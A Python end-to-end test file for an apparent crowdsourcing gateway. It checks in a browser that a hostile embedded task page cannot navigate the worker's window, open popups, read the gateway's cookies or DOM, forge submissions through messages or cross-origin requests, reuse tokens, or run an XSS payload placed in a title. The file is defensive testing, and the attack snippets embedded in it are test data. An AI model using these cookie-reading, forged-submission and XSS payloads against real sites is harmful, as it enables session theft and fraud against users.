"""A hostile task page, through the real gateway, in Debian's Chromium: each attack is stopped.

The client's task page (http://localhost:P) is shown in the real gateway's frame page
(http://127.0.0.1:G). It tries to navigate the worker's window, open popups, read the gateway's
cookies and DOM, and submit for an assignment that is not the one it was opened for. A
stranger's site (a third origin) tries to post forged submissions at the real frame page. Each
page reports what it managed to its own server; each test asserts what the worker (and the
other worker) would notice.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

import crowdframe
from hostile import Arena, open_arena
from widget_harness import html, page_html

pytestmark = pytest.mark.e2e

# What every hostile page starts with: try something, record how it went, report home.
HARNESS = """<!doctype html><meta charset="utf-8"><title>Totally normal task</title>
<h1>Label this image</h1>
<script>
  window.results = {};
  window.attempt = (name, fn) => {
    try { const value = fn(); results[name] = 'allowed: ' + String(value).slice(0, 2000); }
    catch (e) { results[name] = 'blocked: ' + e.name; }
  };
  window.report = (name = 'report') =>
    fetch(`${location.pathname}/${name}`, {method: 'POST', body: JSON.stringify(results)});
</script>
"""


@pytest.fixture(scope="module")
def arena(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Arena]:
    with open_arena(tmp_path_factory.mktemp("hostile")) as arena:
        yield arena


def frame_page_url(arena: Arena, page: Page) -> str:
    assert page.url.startswith(arena.gateway.origin + "/work/assignments/"), page.url
    return page.url


def status_of(arena: Arena, assignment_id: str) -> tuple[str, object]:
    with arena.api() as api:
        assignment = api.get_assignment(assignment_id)
    return assignment.status, assignment.result


# --- navigating the worker's window -----------------------------------------------------------


def test_the_task_page_cannot_navigate_the_workers_window(arena: Arena, browser: Browser) -> None:
    title = "Navigate the top window"
    target = f"{arena.hostile.origin}/pwned"
    attacks = f"""
<a id="lure" href="{target}?via=click" target="_top">Next image</a>
<form id="form" action="{target}" method="get" target="_top"><input name="via" value="form"></form>
<script>
  attempt('top.location =', () => {{ top.location = '{target}?via=assign'; }});
  attempt('top.location.replace', () => top.location.replace('{target}?via=replace'));
  attempt("window.open(_top)", () => window.open('{target}?via=open', '_top'));
  attempt('form target=_top', () => document.getElementById('form').submit());
  report();
</script>"""
    arena.project(title, HARNESS + attacks)
    page = arena.worker(browser.new_context())
    arena.accept(page, title)
    frame_url = frame_page_url(arena, page)

    [results] = arena.reports(title)
    # ... and with the worker's own click, which grants user activation
    page.frame_locator("#cf-task-frame").get_by_role("link", name="Next image").click()
    page.wait_for_timeout(500)

    assert page.url == frame_url
    expect(page.get_by_role("heading", name=title)).to_be_visible()
    assert arena.hostile.received("GET", "/pwned") == [], results
    page.context.close()


# --- popups -----------------------------------------------------------------------------------


def test_the_task_page_cannot_open_popups(arena: Arena, browser: Browser) -> None:
    title = "Open a popup"
    target = f"{arena.hostile.origin}/popup"
    attacks = f"""
<a id="lure" href="{target}?via=click" target="_blank">See the example</a>
<button id="button">Open the guide</button>
<script>
  document.getElementById('button').addEventListener('click', () => {{
    attempt('window.open on click', () => window.open('{target}?via=button'));
    report('click');
  }});
  attempt('window.open', () => window.open('{target}?via=open'));
  report();
</script>"""
    arena.project(title, HARNESS + attacks)
    context = browser.new_context()
    page = arena.worker(context)
    arena.accept(page, title)

    [results] = arena.reports(title)
    task = page.frame_locator("#cf-task-frame")
    task.get_by_role("link", name="See the example").click()
    task.get_by_role("button", name="Open the guide").click()
    [clicked] = arena.reports(title, "click")
    page.wait_for_timeout(500)

    assert results["window.open"] == "allowed: null"  # the sandbox hands back no window
    assert clicked["window.open on click"] == "allowed: null"
    assert len(context.pages) == 1
    assert arena.hostile.received("GET", "/popup") == []
    context.close()


# --- the gateway's cookies and DOM ------------------------------------------------------------


def test_the_task_page_cannot_read_the_gateways_cookies_or_page(
    arena: Arena, browser: Browser
) -> None:
    title = "Read the gateway"
    attacks = f"""
<script>
  attempt('parent.document', () => parent.document.body.innerHTML);
  attempt('top.document.cookie', () => top.document.cookie);
  attempt('parent.location.href', () => parent.location.href);
  attempt('parent.localStorage', () => JSON.stringify(parent.localStorage));
  attempt('frameElement', () => window.frameElement && window.frameElement.outerHTML);
  attempt('own document.cookie', () => document.cookie);
  attempt('document.referrer', () => document.referrer);
  fetch('{arena.gateway.origin}/work', {{credentials: 'include'}})
    .then((r) => r.text()).then((t) => {{ results['fetch /work'] = 'allowed: ' + t; }},
                                (e) => {{ results['fetch /work'] = 'blocked: ' + e.name; }})
    .finally(() => report());
</script>"""
    arena.project(title, HARNESS + attacks)
    context = browser.new_context()
    page = arena.worker(context)
    email = page.locator(".who").inner_text()
    aid = arena.accept(page, title)

    [results] = arena.reports(title)

    for attempt in ("parent.document", "top.document.cookie", "parent.location.href"):
        assert results[attempt] == "blocked: SecurityError", (attempt, results)
    assert results["parent.localStorage"] == "blocked: SecurityError"
    assert results["frameElement"] == "allowed: null"
    assert results["document.referrer"] == "allowed: ", "the frame page's URL does not leak"
    assert results["fetch /work"] == "blocked: TypeError"  # CORS: the answer is not readable
    [session] = [c for c in context.cookies(arena.gateway.origin) if c["name"] == "cf_session"]
    assert session["httpOnly"] and session["sameSite"] == "Lax"
    csrf = page.locator('input[name="csrf"]').first.get_attribute("value") or ""
    everything_reported = json.dumps(results) + " ".join(
        r.body.decode() for r in arena.hostile.requests
    )
    for secret in (session["value"], csrf, email, aid):
        assert secret not in everything_reported
    context.close()


# --- submitting for another assignment --------------------------------------------------------


def test_a_forged_submit_message_only_ever_submits_the_frames_own_assignment(
    arena: Arena, browser: Browser
) -> None:
    title = "Submit for someone else"
    victim_context = browser.new_context()
    victim = arena.worker(victim_context)
    arena.project(title, "<p>Nothing to see</p>")  # the hostile page comes once the victim's
    # assignment is known
    victims = arena.accept(victim, title)
    # the victim's frame has loaded its (benign) page before the hostile one is served
    expect(victim.frame_locator("#cf-task-frame").get_by_text("Nothing to see")).to_be_visible()
    assert len(arena.hostile.received("GET", arena.path_of(title))) == 1
    other = f"/work/assignments/{victims}/submit"
    hostile_page = (
        HARNESS
        + f"""
<script>
  const gateway = new URLSearchParams(location.search).get('cf_origin');
  // 'ready' until the host (a deferred script) listens and answers with 'init'
  const hello = setInterval(() => parent.postMessage({{cf: 1, type: 'ready'}}, gateway), 100);
  addEventListener('message', (e) => {{
    if (e.origin !== gateway || !e.data || e.data.type !== 'init') return;
    clearInterval(hello);
    parent.postMessage({{cf: 1, type: 'submit', request_id: 'forged',
      result: {{label: 'forged'}}, assignment: '{victims}', aid: '{victims}',
      submit_url: '{other}', url: '{other}'}}, gateway);
  }});
  // and straight at the gateway, without the host: the worker's cookie and CSRF token stay home
  fetch(gateway + '{other}', {{method: 'POST', credentials: 'include', mode: 'no-cors',
    headers: {{'Content-Type': 'text/plain'}}, body: '{{"result": {{"label": "forged"}}}}'}})
    .then(() => {{ results.fetch = 'sent'; }}, (e) => {{ results.fetch = e.name; }})
    .finally(() => report());
</script>"""
    )
    arena.hostile.get(arena.path_of(title), html(hostile_page))
    attacker = arena.worker(browser.new_context())
    own = arena.accept(attacker, title)

    arena.reports(title)
    attacker.wait_for_url(re.compile(r"/work(\?notice=finished|/assignments/(?!" + own + "))"))

    assert status_of(arena, own) == ("submitted", {"label": "forged"})
    assert status_of(arena, victims) == ("accepted", None), "the other assignment is untouched"
    expect(victim.locator("#cf-status")).to_have_text("")
    victim_context.close()
    attacker.context.close()


def test_the_task_pages_server_cannot_submit_another_assignment_with_its_token(
    arena: Arena, browser: Browser
) -> None:
    title = "Server-side swap"
    arena.project(title, HARNESS + "<p>Waiting for the server.</p>")
    victim = arena.worker(browser.new_context())
    victims = arena.accept(victim, title)
    attacker = arena.worker(browser.new_context())
    own = arena.accept(attacker, title)
    # the launch URL reached the client's server: it holds a valid token for `own`
    task = attacker.frame_locator("#cf-task-frame")
    expect(task.get_by_role("heading", name="Label this image")).to_be_visible()
    secret, audience = arena.account.signing_secret, arena.hostile.origin
    launches = arena.hostile.received("GET", arena.path_of(title))
    [token] = [
        r.query["cf_token"][0]
        for r in launches
        if crowdframe.verify_task_token(r.query["cf_token"][0], secret, audience=audience).aid
        == own
    ]

    with arena.api() as api, pytest.raises(crowdframe.ValidationError) as refused:
        api.submit(victims, token, {"label": "forged"})

    assert refused.value.code == "token_assignment"
    assert status_of(arena, victims) == ("accepted", None)
    assert status_of(arena, own) == ("accepted", None)
    victim.context.close()
    attacker.context.close()


# --- a third origin posting forged messages at the real frame page ----------------------------


def assert_nothing_accepted(arena: Arena, page: Page, aid: str) -> None:
    expect(page.locator("#cf-progress")).to_have_text("")
    expect(page.locator("#cf-status")).to_have_text("")
    assert status_of(arena, aid) == ("accepted", None)


def test_a_third_origin_inside_the_task_frame_gets_nothing_accepted(
    arena: Arena, browser: Browser
) -> None:
    # A benign task page that shows a stranger's content (an ad, an embed); the stranger posts
    # forged protocol messages straight at the top window, the real frame page.
    title = "Embedded stranger"
    forger = f"{arena.stranger.origin}/forge-top"
    arena.stranger.get("/forge-top", html(page_html("forge.html", target="top")))
    task = page_html("task.html", gateway=arena.gateway.origin).replace(
        "</body>", f'<iframe src="{forger}"></iframe></body>'
    )
    arena.project(title, task)
    page = arena.worker(browser.new_context())
    aid = arena.accept(page, title)
    expect(page.frame_locator("#cf-task-frame").locator("#state")).to_have_text("connected work")

    page.wait_for_function(
        "(origin) => window.__seen.filter((m) => m.origin === origin).length >= 40",
        arg=arena.stranger.origin,
    )

    assert_nothing_accepted(arena, page, aid)
    page.context.close()


def test_a_third_origin_that_opens_the_frame_page_gets_nothing_accepted(
    arena: Arena, browser: Browser
) -> None:
    # A site the worker visits opens the worker's frame page in a popup and posts into it.
    title = "Opened by a stranger"
    arena.project(title, page_html("task.html", gateway=arena.gateway.origin))
    context = browser.new_context()
    page = arena.worker(context)
    aid = arena.accept(page, title)
    frame_url = page.url
    opener = page_html(
        "forge.html", target=f"(window.popup = window.popup || window.open('{frame_url}', 'task'))"
    )
    arena.stranger.get("/opener", html(opener))
    stranger = context.new_page()

    with context.expect_page() as popup_info:
        stranger.goto(f"{arena.stranger.origin}/opener")
    popup = popup_info.value
    popup.wait_for_url(frame_url)
    expect(popup.frame_locator("#cf-task-frame").locator("#state")).to_have_text("connected work")
    stranger.wait_for_function("() => window.sent >= 200")

    # COOP: the opener's handle no longer reaches the frame page, so nothing even arrives
    assert stranger.evaluate("window.popup.closed") is True
    assert (
        popup.evaluate(
            "(origin) => window.__seen.filter((m) => m.origin === origin).length",
            arena.stranger.origin,
        )
        == 0
    )
    assert_nothing_accepted(arena, popup, aid)
    context.close()


# --- a client-supplied title ------------------------------------------------------------------

XSS = "<img src=x onerror=\"document.title='pwned'\"><script>window.pwned=1</script>"


def test_an_xss_payload_in_a_title_shows_as_text(arena: Arena, browser: Browser) -> None:
    title = f"Cats {XSS}"
    project_id = arena.project(title, page_html("task.html", gateway=arena.gateway.origin))
    with arena.api() as api:
        api.update_project(project_id, instructions=f"Read this: {XSS}")
    context = browser.new_context()
    page = arena.worker(context)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(arena.gateway.origin + "/work")

    offer = page.get_by_role("listitem").filter(has_text="Cats <img")
    expect(offer.get_by_role("heading")).to_have_text(title)
    expect(offer).to_contain_text(f"Read this: {XSS}")
    offer.get_by_role("button", name=re.compile("Accept")).click()
    expect(page.get_by_role("heading", level=1)).to_have_text(title)

    assert page.locator("img, script:not([src])").count() == 0
    assert page.evaluate("window.pwned") is None
    assert page.title() == f"{title} · Crowdframe"
    assert dialogs == []
    context.close()


def test_the_launch_token_reaches_only_the_task_origin(arena: Arena, browser: Browser) -> None:
    # The hostile page's own server got the launch URL; the token in it names that origin only.
    title = "Token audience"
    arena.project(title, HARNESS)
    page = arena.worker(browser.new_context())
    aid = arena.accept(page, title)
    src = page.locator("#cf-task-frame").get_attribute("src") or ""
    token = parse_qs(urlsplit(src).query)["cf_token"][0]

    claims = crowdframe.verify_task_token(
        token, arena.account.signing_secret, audience=arena.hostile.origin
    )
    assert (claims.aid, claims.aud, claims.iss) == (
        aid,
        arena.hostile.origin,
        arena.gateway.origin,
    )
    with pytest.raises(crowdframe.TokenAudienceError):
        crowdframe.verify_task_token(
            token, arena.account.signing_secret, audience=arena.stranger.origin
        )
    page.context.close()
